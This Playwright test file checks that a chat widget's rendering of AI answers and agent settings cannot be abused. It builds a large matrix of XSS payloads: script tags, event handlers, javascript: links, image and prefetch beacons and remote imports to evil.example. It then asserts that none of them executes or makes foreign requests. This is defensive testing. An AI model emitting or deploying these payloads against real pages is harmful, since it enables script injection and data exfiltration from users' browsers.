import { expect } from '@playwright/test'
import { ask, lastAnswer, openChat, test } from './widget-harness.ts'

// What a fooled model, or a person with bad intent, could put into an answer. Counted at the victim: the browser.
const CARRIERS = [
  (x: string) => `<script>${x}</script>`,
  (x: string) => `<img src=x onerror="${x}">`,
  (x: string) => `<svg onload="${x}"><a href="javascript:${x}">x</a></svg>`,
  (x: string) => `<iframe srcdoc="<script>${x}</script>"></iframe>`,
  (x: string) => `[click](javascript:${x})`,
  (x: string) => `[click](JaVa\tScRiPt:${x})`,
  (x: string) => `[click](data:text/html;base64,PHNjcmlwdD4=${x})`,
  (x: string) => `<a href="javascript:${x}">click</a>`,
  (x: string) => `![pixel](https://evil.example/p.png?${encodeURIComponent(x)})`,
  (x: string) => `![pixel][ref]\n\n[ref]: https://evil.example/${encodeURIComponent(x)}`,
  (x: string) =>
    `<link rel=prefetch href="https://evil.example/${x}"><style>@import "https://evil.example"</style>`,
  (x: string) => `[a](https://evil.example/"onmouseover="${x})`,
  (x: string) => `\`\`\`html\n<script>${x}</script>\n\`\`\``,
  (x: string) => `> - **[![a](https://evil.example/b.png)](javascript:${x})**`,
  (x: string) => `| a |\n|---|\n| <script>${x}</script> ![](https://evil.example/t.png) |`,
  (x: string) => `[1](javascript:${x}) [2][3] ${'['.repeat(200)}${x}`,
  (x: string) => `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${x}"}}}`,
  (x: string) => `${'*a **b '.repeat(200)}<body onload=${x}>`,
]
const CODE = [
  'alert(1)',
  "fetch('https://evil.example')",
  'window.pwned=1',
  "document.title='pwned'",
  'parent.pwned=1',
  'import("https://evil.example/x.js")',
]

const PAYLOADS = CARRIERS.flatMap((carry) =>
  CODE.flatMap((code) => [carry(code), `Yes. ${carry(code)} [1]`, carry(carry(code))]),
)

test.use({
  says: { answer: (text) => ({ text: PAYLOADS.slice(Number(text), Number(text) + 27).join('\n\n') }) },
})

test('no answer runs a script, opens a dialog or calls anyone but our own host', async ({
  page,
  site,
  api,
  seen,
}) => {
  test.slow()
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(300)
  await openChat(page, site.origin)
  const scripts = await page.locator('script').count()
  for (let n = 0; n < PAYLOADS.length; n += 27) {
    await ask(page, String(n))
    await expect(page.locator('hiviex-widget .me').last()).toHaveText(String(n))
    await expect(page.getByRole('button', { name: 'Send' })).toBeVisible()
    await expect(lastAnswer(page)).not.toBeEmpty()
  }
  await page.locator('hiviex-widget a').first().hover()
  // The log stays connected, so the network never falls silent: this long for anything late to be asked for.
  await page.waitForTimeout(500)

  expect(await page.locator('script').count()).toBe(scripts)
  expect(
    await page
      .locator('hiviex-widget')
      .locator('script, style, iframe, link, svg image, object, embed, form form')
      .count(),
  ).toBe(0)
  expect(await page.locator('hiviex-widget img').count()).toBe(0)
  const links = await page
    .locator('hiviex-widget a')
    .evaluateAll((all) =>
      all.map((link) => [link.getAttribute('href'), link.getAttribute('rel'), link.getAttribute('target')]),
    )
  expect(links.length).toBeGreaterThan(50)
  for (const [href, rel, target] of links) {
    expect(href).toMatch(/^(https?:\/\/|mailto:)/)
    expect([rel, target]).toEqual(['noopener noreferrer nofollow', '_blank'])
  }
  expect(
    await page.locator('hiviex-widget').evaluate((host) => {
      const all = [...(host.shadowRoot?.querySelectorAll('*') ?? [])]
      return all.flatMap((element) =>
        element
          .getAttributeNames()
          .filter((name) => name.startsWith('on') || name === 'style' || name === 'srcdoc'),
      )
    }),
  ).toEqual([])
  expect(await page.evaluate(() => 'pwned' in window || document.title !== 'A shop')).toBe(false)
  const foreign = seen.requests.filter((url) => !url.startsWith(api.origin) && !url.startsWith(site.origin))
  expect(foreign).toEqual([])
})

test('what the agent’s settings say stays text, colour and our own picture', async ({
  page,
  site,
  api,
  seen,
}) => {
  Object.assign(api.agent, {
    name: '<img src=x onerror=alert(1)>',
    welcome: '<script>alert(1)</script>',
    suggestedQuestions: [{ type: 'script' }, '<b>bold</b>'],
    accentColor: '#000}*{background:url(https://evil.example/c.png)}',
    avatarUrl: 'https://evil.example/face.png',
    placeholder: '"><script>alert(1)</script>',
    position: 'left',
  })
  await openChat(page, site.origin)
  await expect(page.getByRole('heading', { name: '<img src=x onerror=alert(1)>' })).toBeVisible()
  await expect(page.getByText('<script>alert(1)</script>', { exact: true })).toBeVisible()
  expect(seen.requests.filter((url) => url.includes('evil'))).toEqual([])
})
